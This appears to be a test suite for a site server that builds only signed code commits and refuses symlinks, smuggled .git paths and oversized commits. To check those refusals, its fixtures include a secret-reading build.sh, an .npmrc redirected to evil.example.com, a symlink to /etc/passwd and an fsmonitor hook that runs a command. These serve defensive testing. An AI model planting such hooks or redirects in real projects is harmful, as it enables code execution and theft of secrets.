/**
 * Which commits the follower builds (issue 34, item 1): real git repositories, commits signed
 * with real SSH keys (ssh-keygen, as git signs with gpg.format=ssh), a real site server, and builds
 * run as the follower runs them. What a build gets and may touch: follow-sandbox.test.ts.
 */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { MAX_CHANGED_FILES } from '../../../../scripts/site-server/follow/judge-commit';
import { followMessages } from '../../../../scripts/site-server/follow/follow-messages';
import {
  type Cleanups,
  PLAIN_WITH,
  serveAndFollow,
  tempFolder,
  testCheckout,
  toldOf,
  trustKeys,
  waitFor,
} from '../../../helpers/follow-checkout';

const cleanups: Cleanups = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

/** A follower on a new checkout of the project, once it serves its first build (`first`). */
async function followingAfresh() {
  const repo = await testCheckout(cleanups);
  const { follower, lines } = await serveAndFollow(cleanups, {
    checkout: repo.checkout,
    buildsDir: tempFolder(cleanups, 'follow-builds-'),
  });
  await waitFor('the first build', () => follower.servedCommit !== undefined);
  return { repo, follower, lines, first: follower.servedCommit ?? '' };
}

/** Keys for a test: `trusted` is in the allowed-signers file, `stranger` is not. */
const keys = () => trustKeys(cleanups);

describe('which commits are built', () => {
  it('builds a commit that changes only content with the code served', async () => {
    const repo = await testCheckout(cleanups);
    const { follower, lines, home } = await serveAndFollow(cleanups, {
      checkout: repo.checkout,
      buildsDir: tempFolder(cleanups, 'follow-builds-'),
    });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const content = await repo.commit({ 'pages/version.txt': 'second', 'public/robots.txt': 'x', 'docs/notes.md': 'y', 'CHANGES.md': 'z' });
    await waitFor('the verdict', () => toldOf(lines, content));
    expect(lines.at(-1)).toMatch(new RegExp(`^The site now serves commit ${content.slice(0, 12)} `));
    expect(await home()).toContain('<title>second</title>');
  });

  it('refuses a commit that changes code and is not signed, in one line, once, and keeps the site', async () => {
    const { allowedSigners } = keys();
    const repo = await testCheckout(cleanups);
    const buildsDir = tempFolder(cleanups, 'follow-builds-');
    const { follower, lines, home } = await serveAndFollow(cleanups, { checkout: repo.checkout, buildsDir, allowedSigners });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const first = follower.servedCommit ?? '';
    const code = await repo.commit({
      'build.sh': 'cat "$SMTP_URL" > /tmp/stolen',
      'package.json': '{"scripts":{"build":"sh build.sh"},"x":1}',
      '.npmrc': 'registry=http://evil.example.com/',
      'vite.config.ts': 'export default {};',
      'pages/version.txt': 'code',
    });
    await waitFor('the verdict', () => toldOf(lines, code));
    expect(lines.at(-1)).toBe(
      followMessages.refused(code, first, ['.npmrc', 'build.sh', 'package.json', 'vite.config.ts'], allowedSigners, 'N'),
    );
    expect(lines.at(-1)).toBe(
      `Commit ${code.slice(0, 12)} is not built: it changes code (.npmrc, build.sh, package.json and 1 more), and a commit that changes code is built only when signed by a key listed in ${allowedSigners}; this commit is not signed. The site still serves commit ${first.slice(0, 12)}. To build it, sign it with a listed key (git commit -S, with gpg.format=ssh), or restart the server on it.`,
    );
    // Several polls later: said once, nothing built.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(lines.filter((line) => line.includes('is not built'))).toHaveLength(1);
    expect(lines.some((line) => line.startsWith(`Commit ${code.slice(0, 12)} arrived`))).toBe(false);
    expect(follower.servedCommit).toBe(first);
    expect(await home()).toContain('<title>first</title>');

    // A content commit on top of it carries its code: refused too.
    const onTop = await repo.commit({ 'pages/version.txt': 'on top' });
    await waitFor('the second verdict', () => toldOf(lines, onTop));
    expect(follower.servedCommit).toBe(first);
  });

  it('says that no code commit is built while FOLLOW_ALLOWED_SIGNERS is not set', async () => {
    const { repo, lines, first } = await followingAfresh();
    const code = await repo.commit({ 'schemas/page.schema.json': '{}', 'migrations/001.ts': '', 'pages/.gitattributes': '* filter=x\n' });
    await waitFor('the verdict', () => toldOf(lines, code));
    expect(lines.at(-1)).toBe(
      `Commit ${code.slice(0, 12)} is not built: it changes code (migrations/001.ts, pages/.gitattributes, schemas/page.schema.json), and a commit that changes code is built only when signed by a key listed in the allowed-signers file FOLLOW_ALLOWED_SIGNERS names, which is not set. The site still serves commit ${first.slice(0, 12)}. To build it, sign it with a listed key (git commit -S, with gpg.format=ssh), or restart the server on it.`,
    );
  });

  it('refuses a link in pages/, even one of content, and says it is a link', async () => {
    const { repo, lines, first } = await followingAfresh();
    execFileSync('ln', ['-s', '/etc/passwd', join(repo.checkout, 'pages/leak.json')]);
    const link = await repo.commit({});
    await waitFor('the verdict', () => toldOf(lines, link));
    expect(lines.at(-1)).toBe(followMessages.refused(link, first, ['pages/leak.json (a link)'], undefined, undefined));
  });

  it('refuses a commit signed by a key the allowed-signers file does not list', async () => {
    const { stranger, allowedSigners } = keys();
    const repo = await testCheckout(cleanups);
    const { follower, lines } = await serveAndFollow(cleanups, {
      checkout: repo.checkout,
      buildsDir: tempFolder(cleanups, 'follow-builds-'),
      allowedSigners,
    });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const first = follower.servedCommit ?? '';
    const code = await repo.commit({ 'build.sh': `${'#'} changed\n${'exit 1'}\n` }, stranger);
    await waitFor('the verdict', () => toldOf(lines, code));
    expect(lines.at(-1)).toBe(followMessages.refused(code, first, ['build.sh'], allowedSigners, 'U'));
    expect(lines.at(-1)).toContain('; this commit is signed by a key the file does not list.');
  });

  it('builds a signed code commit, then content on top of it, and a publish that lands on a signed commit unseen', async () => {
    const { trusted, allowedSigners } = keys();
    const repo = await testCheckout(cleanups);
    const { follower, lines, home } = await serveAndFollow(cleanups, {
      checkout: repo.checkout,
      buildsDir: tempFolder(cleanups, 'follow-builds-'),
      allowedSigners,
    });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const signed = await repo.commit({ 'build.sh': PLAIN_WITH('v2') }, trusted);
    await waitFor('the verdict', () => toldOf(lines, signed));
    expect(await home()).toContain('<title>v2 first</title>');
    const content = await repo.commit({ 'pages/version.txt': 'second' });
    await waitFor('the verdict', () => toldOf(lines, content));
    expect(await home()).toContain('<title>v2 second</title>');

    // A signed release and an editor's publish on top of it reach the branch together (a pull):
    // the publish is never signed, but its code is the release's.
    const other = tempFolder(cleanups, 'follow-other-');
    await repo.run(['clone', '-q', '--', repo.checkout, other]);
    const elsewhere = async (args: string[]) => repo.run(['-C', other, ...args]);
    writeFileSync(join(other, 'build.sh'), PLAIN_WITH('v3'));
    await elsewhere(['-c', 'gpg.format=ssh', '-c', `user.signingkey=${trusted.file}`, 'commit', '-q', '-S', '-a', '-m', 'Release 3']);
    writeFileSync(join(other, 'pages/version.txt'), 'third');
    await elsewhere(['commit', '-q', '-a', '-m', 'Publish']);
    await repo.run(['pull', '-q', '--ff-only', other, 'main']);
    const publish = await repo.run(['rev-parse', 'HEAD']);
    await waitFor('the publish on the release', () => toldOf(lines, publish));
    expect(await home()).toContain('<title>v3 third</title>');

    // The branch moves back to the release before: its code was trusted, and is again.
    await repo.run(['reset', '-q', '--hard', content]);
    await waitFor('the way back', () => lines.filter((line) => toldOf([line], content)).length === 2);
    expect(await home()).toContain('<title>v2 second</title>');
  });

  it('refuses a path git would never write, such as pages/.git/…, as code', async () => {
    const { repo, lines, first } = await followingAfresh();
    // git mktree takes names that git add never would: a folder named .git inside pages/.
    const blob = await repo.run(['hash-object', '-w', '--stdin'], '[core]\n\tfsmonitor = touch /tmp/owned\n');
    const dotGit = await repo.run(['mktree'], `100644 blob ${blob}\tconfig\n`);
    const pages = await repo.run(['mktree'], `${await repo.run(['ls-tree', 'HEAD:pages'])}\n040000 tree ${dotGit}\t.git\n`);
    const top = (await repo.run(['ls-tree', 'HEAD'])).replace(/^040000 tree \w+\tpages$/m, `040000 tree ${pages}\tpages`);
    const odd = await repo.run(['commit-tree', await repo.run(['mktree'], `${top}\n`), '-p', 'HEAD', '-m', 'A folder named .git']);
    await repo.run(['update-ref', 'refs/heads/main', odd]);
    await waitFor('the verdict', () => toldOf(lines, odd));
    expect(lines.at(-1)).toBe(followMessages.refused(odd, first, ['pages/.git/config'], undefined, undefined));
  });

  it('refuses a commit of content too large to write out: one file over 100 MB, or over 1 GB in all', async () => {
    const { repo, follower, lines, first } = await followingAfresh();
    // Large files of zeros, stored by git in a few kilobytes, committed under as many names as needed.
    const commitBlob = async (bytes: number, names: string[]): Promise<string> => {
      const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
        cwd: repo.checkout,
        input: Buffer.alloc(bytes),
        encoding: 'utf8',
      }).trim();
      const index = join(tempFolder(cleanups, 'follow-index-'), 'index');
      const withIndex = (args: string[], input?: string) =>
        execFileSync('git', args, { cwd: repo.checkout, env: { ...process.env, GIT_INDEX_FILE: index }, input, encoding: 'utf8' }).trim();
      withIndex(['read-tree', 'HEAD']);
      withIndex(['update-index', '--index-info'], names.map((name) => `100644 blob ${blob}\t${name}\n`).join(''));
      const large = await repo.run(['commit-tree', withIndex(['write-tree']), '-p', 'HEAD', '-m', 'Large files']);
      await repo.run(['update-ref', 'refs/heads/main', large]);
      return large;
    };
    const one = await commitBlob(150 * 1024 ** 2, ['public/media/film.mp4']);
    await waitFor('the verdict on one large file', () => toldOf(lines, one));
    expect(lines.at(-1)).toBe(
      `Commit ${one.slice(0, 12)} is not built: public/media/film.mp4 is 150.0 MB, more than the 100 MB a content file may be. The site still serves commit ${first.slice(0, 12)}. Publish the change in smaller commits, sign it with a listed key (a signed commit is not limited), or restart the server on it.`,
    );
    await repo.run(['update-ref', 'refs/heads/main', first]);
    const many = await commitBlob(
      100 * 1024 ** 2,
      Array.from({ length: 11 }, (_, at) => `public/media/part-${at}.bin`),
    );
    await waitFor('the verdict on many large files', () => toldOf(lines, many));
    expect(lines.at(-1)).toBe(
      followMessages.tooLarge(many, first, 'the files it changes come to 1.1 GB, more than the 1 GB a commit of content may bring'),
    );
    expect(follower.servedCommit).toBe(first);
  });

  it(`refuses, unchecked, a commit that changes more than ${MAX_CHANGED_FILES} files`, async () => {
    const { repo, lines, first } = await followingAfresh();
    // One blob under MAX_CHANGED_FILES + 1 names, committed without writing a file.
    const blob = await repo.run(['hash-object', '-w', '--stdin'], 'x');
    const index = join(tempFolder(cleanups, 'follow-index-'), 'index');
    const withIndex = (args: string[], input?: string) =>
      execFileSync('git', args, { cwd: repo.checkout, env: { ...process.env, GIT_INDEX_FILE: index }, input, encoding: 'utf8' }).trim();
    withIndex(['read-tree', 'HEAD']);
    withIndex(
      ['update-index', '--index-info'],
      Array.from({ length: MAX_CHANGED_FILES + 1 }, (_, at) => `100644 blob ${blob}\tpages/many/${at}.txt\n`).join(''),
    );
    const tree = withIndex(['write-tree']);
    const many = await repo.run(['commit-tree', tree, '-p', 'HEAD', '-m', 'Many files']);
    await repo.run(['update-ref', 'refs/heads/main', many]);
    await waitFor('the verdict', () => toldOf(lines, many));
    expect(lines.at(-1)).toBe(followMessages.tooMany(many, first));
    expect(lines.at(-1)).toContain('it changes more than 50,000 files');
  });
});
